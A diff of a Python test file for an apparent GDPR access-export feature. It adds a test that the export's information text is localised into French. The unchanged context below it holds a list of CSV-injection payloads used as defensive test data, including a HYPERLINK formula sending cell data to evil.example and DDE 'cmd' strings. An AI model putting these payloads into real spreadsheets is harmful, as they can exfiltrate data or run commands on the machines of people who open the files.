@@ -58,6 +58,22 @@ def test_access_export_holds_every_dossier_of_the_client_with_art15_information(
     assert "Mortgage" in archive.read("data.csv").decode()
 
 
+def test_the_access_exports_information_is_written_in_the_clients_language(api, team):
+    import gettext
+
+    from chalicelib import templating
+
+    api.patch(f"/teams/{team.id}/privacy/settings", {"retention_period": "5 ans"}, token=team.token)
+    api.new_dossier(team, "alice@client.example", title="Mortgage")
+    request_id = api.verified_request(team, "alice@client.example", "access", locale="fr")
+    executed(api, team, request_id)
+    api.pump()
+    information = follow_export(api, "alice@client.example").read("information.txt").decode()
+    french = gettext.translation("messages", templating.CATALOGS, languages=["fr"])
+    assert french.gettext("How long it is kept:") in information and "5 ans" in information
+    assert "How long it is kept:" not in information
+
+
 # What a spreadsheet would run as a formula when it opens data.csv (OWASP "CSV injection").
 FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
